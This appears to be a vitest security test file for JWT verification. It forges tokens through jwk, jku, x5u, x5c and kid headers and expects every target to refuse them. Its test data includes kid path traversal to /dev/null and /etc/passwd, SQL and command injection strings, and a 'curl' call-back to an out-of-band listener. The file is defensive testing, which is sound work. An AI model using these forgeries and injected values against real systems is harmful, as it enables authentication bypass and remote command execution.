// Catalogue section C: key-selection headers. The rule: no header of a token ever selects,
// supplies or fetches a key beyond a `kid` lookup in the configured key set (RFC 8725
// section 3.10; PortSwigger "jwk"/"jku"/"kid" labs; jwt_tool -X i, -X s, kid playbook).
import { X509Certificate, createPrivateKey } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testKeyPair } from '../support/keys.js';
import { ATTACKER_CERT_PEM, ATTACKER_KEY_PEM } from './fixtures/attacker-certificate.js';
import { b64u, signCompact, type ForgeAlgorithm } from '../support/forge.js';
import { startOobListener, type OobListener } from './support/oob-listener.js';
import { listeningPort } from './support/raw-http.js';
import {
  adminClaims,
  expectRefusedEverywhere,
  genuineHeader,
  mint,
  TARGET_FACTORIES,
  type ForgeTarget,
} from './support/targets.js';

const attackerEc = testKeyPair('ES256', 'attacker');
const attackerRsa = testKeyPair('RS256', 'attacker');
const certKey = createPrivateKey(ATTACKER_KEY_PEM);
const certDer = new X509Certificate(ATTACKER_CERT_PEM).raw.toString('base64');
const attackerJwk = { ...attackerEc.publicJwk, kid: 'attacker', alg: 'ES256', use: 'sig' };
const attackerJwks = JSON.stringify({
  keys: [attackerJwk, { ...attackerRsa.publicJwk, kid: 'attacker-rsa', alg: 'RS256', use: 'sig' }],
});

/** A forged token: header built from the target and the oob origin, signed by the attacker. */
type Forgery = (target: ForgeTarget, oob: string) => string;

const signedByAttacker =
  (
    header: (target: ForgeTarget, oob: string) => Record<string, unknown>,
    alg: ForgeAlgorithm = 'ES256',
    key = attackerEc.privateKey,
  ): Forgery =>
  (target, oob) =>
    signCompact(header(target, oob), adminClaims(target), alg, key);

const signedByServer =
  (header: (target: ForgeTarget, oob: string) => Record<string, unknown>): Forgery =>
  (target, oob) =>
    mint(target, adminClaims(target), header(target, oob));

const hmacWith =
  (kid: unknown, secret: string): Forgery =>
  (target) =>
    signCompact(
      { alg: 'HS256', typ: 'at+jwt', kid },
      adminClaims(target),
      'HS256',
      Buffer.from(secret, 'utf8'),
    );

const KEY_HEADER_CASES: Array<[string, Forgery]> = [
  [
    'C01 jwk: attacker EC key embedded, real kid',
    signedByAttacker((t) => ({
      alg: 'ES256',
      typ: 'at+jwt',
      kid: t.signing.kid,
      jwk: attackerEc.publicJwk,
    })),
  ],
  [
    'C01 jwk: attacker EC key embedded, its own kid',
    signedByAttacker(() => ({ alg: 'ES256', typ: 'at+jwt', kid: 'attacker', jwk: attackerJwk })),
  ],
  [
    'C01 jwk: attacker EC key embedded, no kid',
    signedByAttacker(() => ({ alg: 'ES256', typ: 'at+jwt', jwk: attackerEc.publicJwk })),
  ],
  [
    'C01 jwk: attacker RSA key embedded',
    signedByAttacker(
      (t) => ({ alg: 'RS256', typ: 'at+jwt', kid: t.signing.kid, jwk: attackerRsa.publicJwk }),
      'RS256',
      attackerRsa.privateKey,
    ),
  ],
  [
    'C01 jwk: oct key embedded, HS256',
    (t) =>
      signCompact(
        { alg: 'HS256', typ: 'at+jwt', kid: t.signing.kid, jwk: { kty: 'oct', k: b64u('secret') } },
        adminClaims(t),
        'HS256',
        Buffer.from('secret'),
      ),
  ],
  [
    "C01 jwk: the server's own key embedded in a validly signed token [K] (refused, not ignored)",
    signedByServer((t) => genuineHeader(t, { jwk: t.signing.publicKey.export({ format: 'jwk' }) })),
  ],
  [
    'C02 jku: oob JWKS, attacker kid',
    signedByAttacker((_t, oob) => ({
      alg: 'ES256',
      typ: 'at+jwt',
      kid: 'attacker',
      jku: `${oob}/jwks.json`,
    })),
  ],
  [
    'C02 jku: oob JWKS, real kid',
    signedByAttacker((t, oob) => ({
      alg: 'ES256',
      typ: 'at+jwt',
      kid: t.signing.kid,
      jku: `${oob}/.well-known/jwks.json`,
    })),
  ],
  [
    'C02 jku: userinfo trick issuer@oob',
    signedByAttacker((t, oob) => ({
      alg: 'ES256',
      typ: 'at+jwt',
      kid: 'attacker',
      jku: `${t.issuer}@${oob.slice('http://'.length)}/jwks.json`,
    })),
  ],
  [
    'C02 jku: array of URLs',
    signedByAttacker((_t, oob) => ({
      alg: 'ES256',
      typ: 'at+jwt',
      kid: 'attacker',
      jku: [`${oob}/a.json`, `${oob}/b.json`],
    })),
  ],
  [
    'C02 jku: on a validly signed token [K] (refused, not ignored)',
    signedByServer((t, oob) => genuineHeader(t, { jku: `${oob}/jwks.json` })),
  ],
  [
    'C03 x5u: oob certificate, no kid',
    signedByAttacker(
      (_t, oob) => ({ alg: 'ES256', typ: 'at+jwt', x5u: `${oob}/cert.pem` }),
      'ES256',
      certKey,
    ),
  ],
  [
    'C03 x5u: oob certificate, real kid',
    signedByAttacker(
      (t, oob) => ({ alg: 'ES256', typ: 'at+jwt', kid: t.signing.kid, x5u: `${oob}/cert.pem` }),
      'ES256',
      certKey,
    ),
  ],
  [
    'C04 x5c: attacker self-signed chain, no kid',
    signedByAttacker(() => ({ alg: 'ES256', typ: 'at+jwt', x5c: [certDer] }), 'ES256', certKey),
  ],
  [
    'C04 x5c: attacker self-signed chain, real kid',
    signedByAttacker(
      (t) => ({ alg: 'ES256', typ: 'at+jwt', kid: t.signing.kid, x5c: [certDer, certDer] }),
      'ES256',
      certKey,
    ),
  ],
  [
    'C04 x5c: on a validly signed token [K] (refused, not ignored)',
    signedByServer((t) => genuineHeader(t, { x5c: [certDer] })),
  ],
];

const KID_INJECTION_CASES: Array<[string, Forgery]> = [
  [
    'C05 kid path traversal to /dev/null, empty HMAC key',
    hmacWith('../../../../../../../dev/null', ''),
  ],
  ['C05 kid absolute /dev/null, empty HMAC key', hmacWith('/dev/null', '')],
  ['C05 kid traversal to /proc/self/environ', hmacWith('../../../../../../proc/self/environ', '')],
  ['C05 kid ....// traversal', hmacWith('....//....//....//etc/passwd', '')],
  [
    'C05 kid Windows traversal',
    hmacWith('..\\..\\..\\windows\\win.ini', '; for 16-bit app support'),
  ],
  ['C05 kid file URL', hmacWith('file:///dev/null', '')],
  [
    'C05 kid traversal to a public static file',
    hmacWith('../../../../../../../etc/hostname', 'localhost\n'),
  ],
  ['C06 kid SQL injection UNION SELECT', hmacWith("x' UNION SELECT 'ATTACKER';--", 'ATTACKER')],
  ['C06 kid SQL injection OR 1=1', hmacWith("' OR '1'='1", 'ATTACKER')],
  ['C06 kid SQL injection comment', hmacWith("k1' --", '')],
  ['C06 kid SQL injection double quotes', hmacWith('k1" OR ""="', '')],
  ['C07 kid command injection pipe', hmacWith('|sleep 1', '')],
  ['C07 kid command injection semicolon', hmacWith('k1; id', '')],
  ['C07 kid command injection backticks', hmacWith('`id`', '')],
  ['C07 kid command injection $()', hmacWith('$(id)', '')],
  ['C07 kid shell call-back to oob', (t, oob) => hmacWith(`k1|curl ${oob}/RCE_in_kid`, '')(t, oob)],
];

const RESOLVED_KID_CASES: Array<[string, unknown]> = [
  ['C08 kid ""', ''],
  ['C08 kid null', null],
  ['C08 kid 0', 0],
  ['C08 kid true', true],
  ['C08 kid []', []],
  ['C08 kid {}', {}],
  ['C08 kid ["<real>"]', 'ARRAY'],
  ['C08 kid with a trailing space', 'SPACE'],
  ['C08 kid upper-cased', 'UPPER'],
  ['C08 kid with a NUL suffix', 'NUL'],
  ['C08 kid of 1 KB', 'k'.repeat(1024)],
  ['C08 unknown kid', 'does-not-exist'],
];

describe.each(TARGET_FACTORIES)('key-selection headers against the $name', ({ start, algs }) => {
  let target: ForgeTarget;
  let oob: OobListener;

  beforeAll(async () => {
    [target, oob] = await Promise.all([start(), startOobListener()]);
    oob.respondWith(attackerJwks);
    // Listening, so a server-side fetch of the app's own URL would be possible at all.
    await listeningPort(target.app);
  });
  afterAll(async () => {
    await Promise.all([target.close(), oob.close()]);
  });

  it.each(KEY_HEADER_CASES)('%s: 401', async (_id, forge) => {
    await expectRefusedEverywhere(target, `Bearer ${forge(target, oob.origin)}`);
  });

  it.each(KID_INJECTION_CASES)('%s: 401', async (_id, forge) => {
    await expectRefusedEverywhere(target, `Bearer ${forge(target, oob.origin)}`);
  });

  it.each(RESOLVED_KID_CASES)(
    '%s with the real signature [K]: 401 (the kid must name a configured key exactly)',
    async (_id, kid) => {
      const real = target.signing.kid;
      const resolved =
        kid === 'ARRAY'
          ? [real]
          : kid === 'SPACE'
            ? `${real} `
            : kid === 'UPPER'
              ? real.toUpperCase()
              : kid === 'NUL'
                ? `${real}\u0000`
                : kid;
      if (resolved === real) throw new Error('the case must differ from the real kid');
      await expectRefusedEverywhere(
        target,
        `Bearer ${mint(target, adminClaims(target), genuineHeader(target, { kid: resolved }))}`,
      );
    },
  );

  // Only keys a target publishes can be named: a one-key target has no cross-key case.
  const crossKeyCases: [string, 'ES256' | 'RS256' | 'EdDSA', 'ES256' | 'RS256' | 'EdDSA'][] = [
    ['C09 ES256 token naming the RS256 key', 'ES256', 'RS256'],
    ['C09 ES256 token naming the EdDSA key', 'ES256', 'EdDSA'],
    ['C09 RS256 token naming the ES256 key', 'RS256', 'ES256'],
    ['C09 RS256 token naming the EdDSA key', 'RS256', 'EdDSA'],
    ['C09 EdDSA token naming the ES256 key', 'EdDSA', 'ES256'],
    ['C09 EdDSA token naming the RS256 key', 'EdDSA', 'RS256'],
  ];
  it.each(
    crossKeyCases.filter(([, signer, named]) => algs.includes(signer) && algs.includes(named)),
  )(
    '%s, validly signed by its own key [K]: 401 (a kid binds one algorithm)',
    async (_id, signer, named) => {
      const signingKey = target.keys.find((key) => key.alg === signer);
      const namedKey = target.keys.find((key) => key.alg === named);
      if (signingKey === undefined || namedKey === undefined)
        throw new Error('the target lacks a key');
      const token = mint(
        target,
        adminClaims(target),
        genuineHeader(target, { alg: signer, kid: namedKey.kid }),
        signer,
        signingKey,
      );
      await expectRefusedEverywhere(target, `Bearer ${token}`);
    },
  );

  it('C09 the real kid with an attacker key of another type: 401', async () => {
    const alg = target.signing.alg === 'RS256' ? 'ES256' : 'RS256';
    const key = alg === 'RS256' ? attackerRsa.privateKey : attackerEc.privateKey;
    await expectRefusedEverywhere(
      target,
      `Bearer ${signCompact(genuineHeader(target, { alg }), adminClaims(target), alg, key)}`,
    );
  });

  it('C02/C03 no request ever reached the out-of-band listener (no jku, x5u or kid-driven fetch)', async () => {
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(oob.hits).toEqual([]);
  });
});
